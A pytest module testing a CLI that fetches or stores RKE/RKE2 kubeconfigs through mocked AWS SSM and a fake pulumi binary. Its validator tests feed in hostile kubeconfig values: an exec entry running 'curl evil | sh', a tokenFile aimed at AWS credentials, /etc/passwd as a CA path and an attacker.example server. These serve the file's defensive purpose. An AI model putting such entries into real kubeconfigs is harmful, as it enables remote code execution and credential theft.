"""`make kubeconfig`: RKE2 reads the published SecureString into a 0600 file; RKE1 stores rke's
kubeconfig as the stack's encrypted config through the CLI, the value on stdin only.

Scenarios run on fixture stacks (tests/stacks/), never on the user's stacks/: following the README's
phase two there (`pulumi config set --secret kubeconfig`) must not change what these tests see."""

# split: this module mixes levels (issue 33 §7.2); the tests on a moto account and the program runs ->
# tests/emulated, tests/program; the CLI ones -> tests/tooling.

from __future__ import annotations

import json
import os
import stat
import textwrap

import boto3
import pytest
from moto import mock_aws

from rke_aws_offline import cli, schema
from rke_aws_offline.engine import harness

KUBECONFIG = textwrap.dedent("""\
    apiVersion: v1
    kind: Config
    clusters:
    - name: default
      cluster: {server: "https://api.rke2-govcloud.rke-aws.internal:6443", certificate-authority-data: Q0E=}
    users:
    - name: default
      user: {client-certificate-data: Y2VydA==, client-key-data: a2V5LW1hcmtlcg==}
    contexts:
    - name: default
      context: {cluster: default, user: default}
    current-context: default
""")
RKE2_STACK, REGION = "rke2-govcloud", "us-gov-west-1"  # tests/stacks: cluster rke2-govcloud
RKE1_STACK = "rke-phase2"  # tests/stacks: an RKE1 cluster
PARAMETER = f"/rke-aws/{RKE2_STACK}/admin-kubeconfig"


@pytest.fixture
def account(monkeypatch):
    for k, v in {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing", "AWS_SESSION_TOKEN": "testing",
                 "AWS_DEFAULT_REGION": REGION}.items():
        monkeypatch.setenv(k, v)
    with mock_aws():
        session = boto3.Session(region_name=REGION)
        key = session.client("kms").create_key()["KeyMetadata"]["KeyId"]
        yield session, key


def _publish(session, key, value):
    session.client("ssm").put_parameter(Name=PARAMETER, Value=value, Type="SecureString", KeyId=key,
                                        Tier="Advanced", Overwrite=True)


def test_rke2_writes_the_published_kubeconfig_readable_by_the_owner_only(account, tmp_path):
    session, key = account
    _publish(session, key, KUBECONFIG)
    out = tmp_path / f"kubeconfig-{RKE2_STACK}.yaml"
    out.write_text("stale")
    out.chmod(0o644)  # a file left from before must not keep wider rights
    assert cli.kubeconfig([RKE2_STACK, "--output", str(out)], session=session) == 0
    assert out.read_text() == KUBECONFIG
    assert stat.S_IMODE(out.stat().st_mode) == 0o600, oct(out.stat().st_mode)
    assert [p.name for p in tmp_path.iterdir()] == [out.name], "a temporary file was left behind"


def test_rke2_before_the_first_server_published_says_so_and_writes_nothing(account, tmp_path, capsys):
    session, key = account
    _publish(session, key, "pending")
    out = tmp_path / "k.yaml"
    assert cli.kubeconfig([RKE2_STACK, "--output", str(out)], session=session) == 1
    err = capsys.readouterr().err
    assert PARAMETER in err and "not initialised the cluster yet" in err, err
    assert not out.exists()


def test_rke2_unreadable_parameter_names_it(account, tmp_path, capsys):
    session, _ = account
    assert cli.kubeconfig([RKE2_STACK, "--output", str(tmp_path / "k.yaml")], session=session) == 1
    err = capsys.readouterr().err
    assert PARAMETER in err and "ParameterNotFound" in err and "kms:Decrypt" in err, err


def test_a_value_that_is_no_kubeconfig_is_refused_without_echoing_it(account, tmp_path, capsys):
    session, key = account
    _publish(session, key, "token-marker-1234")
    assert cli.kubeconfig([RKE2_STACK, "--output", str(tmp_path / "k.yaml")], session=session) == 1
    err = capsys.readouterr().err
    assert "is not a kubeconfig" in err and "token-marker-1234" not in err, err


@pytest.fixture
def fake_pulumi(tmp_path, monkeypatch):
    """A `pulumi` on PATH that records its arguments, working directory and stdin."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    record = tmp_path / "pulumi-call.json"
    script = bindir / "pulumi"
    script.write_text(textwrap.dedent(f"""\
        #!/usr/bin/env python3
        import json, os, sys
        json.dump({{"argv": sys.argv[1:], "cwd": os.getcwd(), "stdin": sys.stdin.read()}}, open({str(record)!r}, "w"))
        rewrite = os.environ.get("FAKE_PULUMI_REWRITES")  # like the CLI: the whole file, no comments
        if rewrite:
            lines = [x for x in open(rewrite).read().splitlines(keepends=True) if not x.lstrip().startswith("#")]
            open(rewrite, "w").write("".join(lines))
    """))
    script.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ['PATH']}")
    return record


def test_rke1_stores_rkes_kubeconfig_as_the_stacks_secret_via_stdin(tmp_path, fake_pulumi, capsys):
    source = tmp_path / "kube_config_cluster.yml"
    source.write_text(KUBECONFIG)
    assert cli.kubeconfig([RKE1_STACK, "--from", str(source)]) == 0, capsys.readouterr().err
    call = json.loads(fake_pulumi.read_text())
    assert call["argv"] == ["config", "set", "--secret", "kubeconfig", "--stack", RKE1_STACK]
    assert call["stdin"] == KUBECONFIG
    assert call["cwd"] == str(harness.ROOT), "pulumi must run in the project (Pulumi.yaml, stacks/)"
    assert "a2V5LW1hcmtlcg==" not in capsys.readouterr().out


def test_the_schema_line_the_cli_drops_is_put_back(tmp_path, fake_pulumi, monkeypatch, capsys):
    stacks = tmp_path / "stacks"
    stacks.mkdir()
    stack_file = stacks / f"Pulumi.{RKE1_STACK}.yaml"
    stack_file.write_text(harness.stack_file(RKE1_STACK).read_text())
    monkeypatch.setattr(schema, "STACKS_DIR", stacks)
    monkeypatch.setenv("FAKE_PULUMI_REWRITES", str(stack_file))
    source = tmp_path / "kube_config_cluster.yml"
    source.write_text(KUBECONFIG)
    assert cli.kubeconfig([RKE1_STACK, "--from", str(source)]) == 0, capsys.readouterr().err
    assert stack_file.read_text().splitlines()[0] == schema.schema_line(stack_file)


def test_rke1_without_rkes_kubeconfig_says_where_it_comes_from(tmp_path, fake_pulumi, capsys):
    assert cli.kubeconfig([RKE1_STACK, "--from", str(tmp_path / "kube_config_cluster.yml")]) == 1
    assert "rke up" in capsys.readouterr().err
    assert not fake_pulumi.exists(), "pulumi was called without a kubeconfig"


def test_rke1_without_the_cli_says_what_to_run(tmp_path, monkeypatch, capsys):
    source = tmp_path / "kube_config_cluster.yml"
    source.write_text(KUBECONFIG)
    monkeypatch.setenv("PATH", str(tmp_path))  # no pulumi anywhere
    assert cli.kubeconfig([RKE1_STACK, "--from", str(source)]) == 1
    assert f"pulumi config set --secret kubeconfig --stack {RKE1_STACK}" in capsys.readouterr().err


# ---- what a published kubeconfig may contain ------------------------------------------------------

API = f"https://api.{RKE2_STACK}.rke-aws.internal:6443"


def _tampered(**changes) -> str:
    import yaml

    doc = yaml.safe_load(KUBECONFIG)
    for path, value in changes.items():
        section, key = path.split(".")
        doc[section][0][section[:-1]][key] = value
    return yaml.safe_dump(doc)


@pytest.mark.parametrize("text, problem", [
    (KUBECONFIG, None),
    (_tampered(**{"users.exec": {"command": "sh", "args": ["-c", "curl evil | sh"]}}), "exec"),
    (_tampered(**{"users.auth-provider": {"name": "oidc"}}), "auth-provider"),
    (_tampered(**{"users.tokenFile": "/home/me/.aws/credentials"}), "tokenFile"),
    (_tampered(**{"clusters.certificate-authority": "/etc/passwd"}), "certificate-authority"),
    (_tampered(**{"clusters.server": "https://attacker.example:6443"}), "attacker.example"),
    (KUBECONFIG.replace("users:\n", "users:\n- name: second\n  user: {}\n"), "2 users"),
    ("not: [valid", "not YAML"),
    ("kind: Secret\n", "not a kubeconfig"),
])
def test_only_what_rke2_writes_is_accepted(text, problem):
    from rke_aws.plan.lookups import published_kubeconfig_problem

    found = published_kubeconfig_problem(text, API)
    assert (found is None) if problem is None else (problem in (found or "")), found


def helm_config(**config) -> dict[str, str]:
    """The RKE2 fixture stack with ccm.install: helm and no kubeconfig set (a new helm-mode stack)."""
    from tests.support.configs import set_key

    cfg = harness.stack_config(RKE2_STACK)
    cfg.pop("rke-aws:kubeconfig", None)
    set_key(cfg, "ccm", {**json.loads(cfg.get("rke-aws:ccm", "{}")), "install": "helm"})
    for k, v in config.items():
        set_key(cfg, k, v)
    return cfg


def first_run() -> harness.ProgramRun:
    """Its first `pulumi up`: nothing published yet, nothing installed in the cluster (shared by the xdist workers)."""
    from tests.support.runs import run_cached

    return run_cached(helm_config(), RKE2_STACK)


SSM_PARAMETER = "aws:ssm/parameter:Parameter"


def _published(value: str, *, kubeconfig_param: bool = True, **config):
    """Run the helm-mode stack again over its first run's outputs, with `value` in the published parameter."""
    from rke_aws_offline.engine.emulated_account import MotoMocks

    outputs = dict(first_run().outputs)
    if not kubeconfig_param:
        outputs.pop("rke2KubeconfigParameter", None)
    cfg = helm_config(**config)
    # The parameter the first update created, holding what the servers published since.
    mocks = MotoMocks(cfg["aws:region"], created_before=[r.name for r in first_run().of_type(SSM_PARAMETER)])
    mocks.parameters[PARAMETER] = value
    return harness.run_program(cfg, stack=RKE2_STACK, mocks=mocks, previous_outputs=outputs), mocks


def _published_text() -> str:
    return KUBECONFIG


_INSTALLED: list[harness.ProgramRun] = []


def _installed() -> harness.ProgramRun:
    """`_published(_published_text())`'s run, made once per process: the update that installed through the published
    kubeconfig, the previous state of several sequences below (they read it, never change it)."""
    if not _INSTALLED:
        _INSTALLED.append(_published(_published_text())[0])
    return _INSTALLED[0]


def test_the_next_pulumi_up_installs_with_the_published_kubeconfig():
    run = _installed()
    (provider,) = run.of_type("pulumi:providers:kubernetes")
    assert provider.inputs["kubeconfig"] == _published_text() and "kubeconfig" in provider.secret_inputs
    assert any("using the admin kubeconfig the first server published" in m for _, m in run.logs)


def test_a_tampered_published_kubeconfig_is_refused_before_anything_is_registered():
    import pulumi

    with pytest.raises(pulumi.RunError, match=r"rke-aws:kubeconfig: .*admin-kubeconfig is refused: .*exec"):
        _published(_published_text().replace("client-key-data: a2V5LW1hcmtlcg==",
                                             "client-key-data: a2V5LW1hcmtlcg==, exec: {command: sh}"))


def test_losing_the_kubeconfig_never_uninstalls_what_the_last_update_installed():
    """Pulumi deletes what a program stops declaring: without a kubeconfig the CCM, the upgrade
    machinery and the EBS CSI driver would be uninstalled from the running cluster."""
    import pulumi

    from tests.support.runs import run_stack_cached

    assert run_stack_cached(RKE1_STACK).outputs["installedInCluster"] == ["aws-cloud-controller-manager",
                                                                        "aws-ebs-csi-driver"]
    installed = _installed()
    assert installed.outputs["installedInCluster"] == ["aws-cloud-controller-manager", "system-upgrade-controller",
                                                       "aws-ebs-csi-driver"]
    from rke_aws_offline.engine import harness
    from rke_aws_offline.engine.emulated_account import MotoMocks

    for value in ("pending", None):  # not published (yet / any more), or not readable with these credentials
        mocks = MotoMocks(REGION)
        if value is not None:
            mocks.parameters[PARAMETER] = value
        with pytest.raises(pulumi.RunError, match=r"installed aws-cloud-controller-manager, system-upgrade-controller, "
                                                  r"aws-ebs-csi-driver in the cluster .* would uninstall them") as info:
            harness.run_program(helm_config(), stack=RKE2_STACK, mocks=mocks, previous_outputs=installed.outputs)
        assert "kms:Decrypt" in str(info.value), str(info.value)
        assert not mocks.resources, "registered before refusing"


def test_an_existing_cluster_gets_no_kubeconfig_key_or_parameter():
    """Its first server never re-reads its user data, so it would never publish."""
    run, _ = _published("pending", kubeconfig_param=False)
    assert not run.of_type("aws:kms/key:Key") and "rke2KubeconfigParameter" not in run.outputs
    assert not [p for p in run.of_type("aws:ssm/parameter:Parameter") if p.inputs["name"].endswith("admin-kubeconfig")]


def test_switching_to_manifest_mode_would_uninstall_and_is_refused_until_handed_over():
    import pulumi

    from rke_aws_offline.engine import harness
    from rke_aws_offline.engine.emulated_account import MotoMocks
    from tests.support.configs import set_key

    installed = _installed()
    cfg = set_key(helm_config(), "ccm", {"install": "manifest"})
    with pytest.raises(pulumi.RunError, match=r"ccm.install: manifest on a cluster where the last update installed "
                                              r"aws-cloud-controller-manager.*pulumi state delete") as info:
        harness.run_program(cfg, stack=RKE2_STACK, mocks=MotoMocks(REGION), previous_outputs=installed.outputs)
    assert "allowUninstall: true" in str(info.value)
    # After `pulumi state delete` of the releases, one update with allowUninstall hands them over.
    handed = harness.run_program(set_key(cfg, "allowUninstall", True), stack=RKE2_STACK,
                                 mocks=MotoMocks(REGION), previous_outputs=installed.outputs)
    assert "installedInCluster" not in handed.outputs and handed.outputs["rke2ManifestPath"]
    later = harness.run_program(helm_config(), stack=RKE2_STACK, mocks=MotoMocks(REGION),
                                previous_outputs=handed.outputs)  # back to helm: the HelmCharts go first
    assert [m for lvl, m in later.logs if lvl == "warning" and "helm-controller uninstalls" in m], later.logs
    assert not later.of_type("kubernetes:helm.sh/v3:Release"), "a Release while helm-controller still runs the chart"


def test_allow_uninstall_is_the_way_out_when_the_cluster_is_gone():
    from rke_aws_offline.engine import harness
    from rke_aws_offline.engine.emulated_account import MotoMocks
    from tests.support.configs import set_key

    installed = _installed()
    cfg = set_key(helm_config(), "allowUninstall", True)
    run = harness.run_program(cfg, stack=RKE2_STACK, mocks=MotoMocks(REGION), previous_outputs=installed.outputs)
    assert not run.of_type("kubernetes:helm.sh/v3:Release") and "installedInCluster" not in run.outputs
